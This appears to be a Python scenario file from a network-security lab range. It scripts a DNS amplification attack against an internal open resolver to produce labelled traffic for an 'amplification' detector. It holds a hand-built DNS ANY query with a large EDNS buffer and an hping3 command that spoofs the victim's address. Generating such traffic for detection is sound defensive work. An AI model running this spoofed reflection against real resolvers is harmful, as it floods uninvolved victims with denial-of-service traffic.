"""DNS amplification, seen at the reflector."""

from lab import servers
from lab.range import Range
from lab.scenario import Scenario

# RFC 1035 section 4.1: one question, ANY of big.range.example, and EDNS with 4,096 octets (RFC 6891).
QUESTION = (
    bytes.fromhex("4242 0100 0001 0000 0000 0001")
    + b"\3big\5range\7example\0"
    + bytes.fromhex("00ff 0001 00 0029 1000 0000 0000 0000")
)


def run(net: Range) -> None:
    attacker, visitor = net.outside("attacker"), net.outside("visitor")
    open_resolver = net.inside("resolver")
    servers.resolver(open_resolver)
    net.everyday()
    net.loop(
        net.hosts["pc1"],
        f"dig +tries=1 +timeout=2 @{open_resolver.ip} big.range.example TXT +bufsize=4096",
        1.5,
    )
    question = attacker.folder / "question"
    question.write_bytes(QUESTION)
    with net.attack(
        "amplification",
        by=attacker,
        victims=[visitor],
        attacker_known=False,
        others={"reflector": [open_resolver], "claimed": [visitor]},
        also=["ip-spoofing", "udp-flood"],
        frames=f"udp and dst host {open_resolver.ip} and dst port 53",
        responses=f"host {visitor.ip} and host {open_resolver.ip} or icmp and host {visitor.ip}",
    ):
        words = f"hping3 -q -2 --spoof {visitor.ip} -s 5000 -p 53 -d {len(QUESTION)} -E {question}"
        words += " -i u60000 -c 60"
        net.tool(attacker, *words.split(), open_resolver.ip)
    net.quiet(2)


SCENARIO = Scenario(
    name="amplification-dns",
    about="hping3 asks an open resolver for everything of a long name, in the name of an outside host.",
    detectors=("amplification",),
    tools={"hping3": "hping3", "named": "bind9"},
    run=run,
)
